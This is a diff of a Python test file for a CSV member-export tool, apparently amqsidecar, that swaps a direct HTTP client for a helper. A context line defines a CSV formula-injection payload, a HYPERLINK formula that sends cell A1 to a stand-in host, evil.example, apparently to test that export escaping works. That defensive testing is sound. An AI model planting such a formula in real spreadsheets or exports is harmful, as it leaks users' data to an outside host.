@@ -17,10 +17,11 @@ from amqsidecar.model.operation import Member
 from amqsidecar.operations import export
 from amqsidecar.operations.export import MEMBERS_HEADERS, members_csv
 from amqsidecar.operations.listing import list_messages
+from support.web.client import web_client
 from support.web.console import running_console
 from support.web.console_store import dead, keep, open_store
 from support.web.page import strings
-from support.web.site import NO_TLS, running_site
+from support.web.site import running_site
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"due")'
 
@@ -40,7 +41,7 @@ def client(tmp_path: Path) -> Iterator[httpx2.Client]:
     store.close()
     with (
         running_console(tmp_path / "schedule.db") as address,
-        httpx2.Client(base_url=address, timeout=30, verify=NO_TLS) as client,
+        web_client(address) as client,
     ):
         yield client
 
